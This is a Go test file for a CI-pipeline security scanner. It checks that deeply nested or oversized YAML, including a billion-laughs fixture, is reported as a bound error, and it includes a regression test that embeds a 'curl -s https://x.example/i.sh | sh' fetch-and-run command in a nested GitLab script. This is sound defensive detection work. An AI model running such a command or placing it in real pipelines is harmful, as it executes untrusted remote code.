package pipelines_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/shiftward/shiftward/scanners"
	"github.com/shiftward/shiftward/scanners/pipelines"
	"github.com/shiftward/shiftward/scanners/scannertest"
)

func TestBounds(t *testing.T) {
	rep := strings.Repeat
	const n = scanners.MaxDepth
	block := func(depth int) string {
		var b strings.Builder
		for i := range depth {
			b.WriteString(rep(" ", i) + "a:\n")
		}
		return b.String() + rep(" ", depth) + "b\n"
	}
	hostile := scannertest.HostileFiles()
	tests := []struct {
		name, path, src string
		bound           bool
	}{
		{"workflow nested in flow", ".github/workflows/ci.yml", "on: push\njobs: " + rep("[", n) + rep("]", n) + "\n", true},
		{"workflow nested by indentation", ".github/workflows/ci.yml", "on: push\njobs:\n" + block(n), true},
		{"closers in strings", ".github/workflows/ci.yml", "on: push\njobs: " + rep(`{"]}": '}]', a: `, n) + "1" + rep("}", n) + "\n", true},
		{"gitlab nested in flow", ".gitlab-ci.yml", "job: " + rep("[", 20000) + rep("]", 20000) + "\n", true},
		{"gitlab billion laughs", ".gitlab-ci.yml", string(hostile["hostile/yaml/laughs/.gitlab-ci.yml"]), true},
		{"too large", ".gitlab-ci.yml", "a: '" + rep("x", scanners.MaxParseBytes) + "'\n", true},
		{"deep but legit", ".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {x: " + rep("[", 200) + rep("]", 200) + "}\n    steps:\n      - run: echo\n", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := pipelines.New().Scan(context.Background(), wholeInput(tc.path, []byte(tc.src)))
			if got := errors.Is(err, scanners.ErrBound); got != tc.bound || (!tc.bound && err != nil) {
				t.Fatalf("Scan: %v, want bound %v", err, tc.bound)
			}
		})
	}
}

// FuzzBounds: any file behind a document nested past the bound is not
// scanned (an error), never clean.
func FuzzBounds(f *testing.F) {
	f.Add([]byte("on: push\njobs: {}\n"), uint8(0), uint16(0))
	f.Add([]byte("stages: [a]\n"), uint8(1), uint16(1))
	paths := []string{".github/workflows/f.yml", ".gitlab-ci.yml"}
	s := pipelines.New()
	f.Fuzz(func(t *testing.T, src []byte, kind uint8, extra uint16) {
		if len(src) > 64<<10 {
			return
		}
		n := scanners.MaxDepth + int(extra%64)
		deep := "a: " + strings.Repeat("[", n) + "1" + strings.Repeat("]", n) + "\n---\n"
		_, err := s.Scan(context.Background(), wholeInput(paths[int(kind)%len(paths)], append([]byte(deep), src...)))
		if err == nil {
			t.Fatalf("%d levels deep: scanned as if clean", n)
		}
	})
}

// TestNestedScriptIsRead: GitLab flattens script lists nested ten deep; a
// script nested nine deep was skipped (a walk capped at eight) and its
// curl | sh passed unreported.
func TestNestedScriptIsRead(t *testing.T) {
	src := "job:\n  script: " + strings.Repeat("[", 10) + "\"curl -s https://x.example/i.sh | sh\"" + strings.Repeat("]", 10) + "\n"
	fs, err := pipelines.New().Scan(context.Background(), wholeInput(".gitlab-ci.yml", []byte(src)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range fs {
		if f.RuleID == "pipelines/curl-pipe-shell" {
			return
		}
	}
	t.Fatalf("no curl-pipe-shell among %d findings", len(fs))
}
